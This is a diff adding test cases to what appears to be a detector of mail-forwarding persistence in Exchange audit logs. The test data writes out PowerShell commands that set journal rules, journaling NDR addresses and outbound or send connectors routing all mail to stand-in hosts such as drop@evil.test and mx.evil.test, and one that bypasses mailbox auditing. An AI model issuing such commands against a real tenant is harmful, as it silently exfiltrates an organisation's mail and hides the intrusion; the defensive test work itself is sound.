@@ -102,6 +102,21 @@ def rules_and_settings():
     is_('permission to send only', [command('Add-RecipientPermission', Trustee='m', AccessRights='SendAs', **ada), command('Set-Mailbox', GrantSendOnBehalfTo='m', **ada)])
     for name in ('RouteMessageOutboundConnector', 'ModerateMessageByUser', 'GenerateIncidentReport'):
         is_(f'a rule of transport with {name} hands mail on', command('New-TransportRule', Name='t', **{name: 'x'}), {'four six seven': 'presumed forwarded'})
+    everybodys = {'four six seven': 'presumed forwarded'}
+    is_('what a journal keeps is handed on', command('New-JournalRule', Name='j', JournalEmailAddress='drop@evil.test'), everybodys)
+    journal = command('Set-TransportConfig', JournalingReportNdrTo='drop@evil.test')
+    is_('so is what it cannot deliver', journal, everybodys)
+    is_('until that was emptied', [journal, by_admin('Set-TransportConfig', JournalingReportNdrTo='')], {'seven': 'presumed forwarded'})
+    is_('another setting of transport hands on nothing', command('Set-TransportConfig', MaxSendSize='10 MB'))
+    connector = command('New-OutboundConnector', Name='c', ConnectorType='Partner', UseMXRecord='False', RecipientDomains='*', SmartHosts='mx.evil.test')
+    is_('mail passes through a connector', connector, everybodys)
+    is_('until it was removed', [connector, by_admin('Remove-OutboundConnector', Identity='c')], gone)
+    is_('or disabled', [connector, by_admin('Set-OutboundConnector', Identity='c', Enabled='False')], gone)
+    for change in ({'SmartHosts': 'mx.evil.test'}, {'Enabled': 'True'}, {'RecipientDomains': '*'}):
+        is_(f'a connector was changed: {change}', command('Set-OutboundConnector', Identity='c', **change), everybodys)
+    is_('one of our own server', command('New-SendConnector', Name='c', AddressSpaces='SMTP:*;1', SmartHosts='mx.evil.test'), everybodys)
+    is_('one by MX sends where mail went before', command('New-OutboundConnector', Name='c', UseMXRecord='True', RecipientDomains='*'))
+    is_('one that is for rules waits for one', command('New-OutboundConnector', Name='c', SmartHosts='mx.evil.test', IsTransportRuleScoped='True'))
     changed = {ADAS + ' seven': 'unknown audit_changed'}
     is_('auditing was bypassed for an account by the intruder, who is then unseen in every mailbox', command('Set-MailboxAuditBypassAssociation', AuditBypassEnabled='True', **ada),
         {ADAS + ' five seven': 'unknown audit_changed'})
